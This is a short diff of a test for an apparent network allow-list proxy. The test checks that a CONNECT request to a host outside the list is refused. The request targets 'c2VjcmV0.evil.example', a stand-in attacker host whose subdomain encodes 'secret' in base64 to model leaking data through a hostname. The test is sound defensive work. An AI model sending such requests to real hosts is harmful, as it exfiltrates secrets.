@@ -382,7 +382,7 @@ it.live("outside of the allow-list a name isn't even resolved, since a question 
     const sky = world({})
     const { socketPath, setPolicy } = yield* start({
       ...sky,
-      policy: { mode: "allowlist", allow: ["*.npmjs.org"] }
+      policy: { mode: "allowlist", allow: ["*.packages.example"] }
     })
     const ask = exchange(socketPath, "CONNECT c2VjcmV0.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
     expect(yield* ask).toContain("not among the hosts")
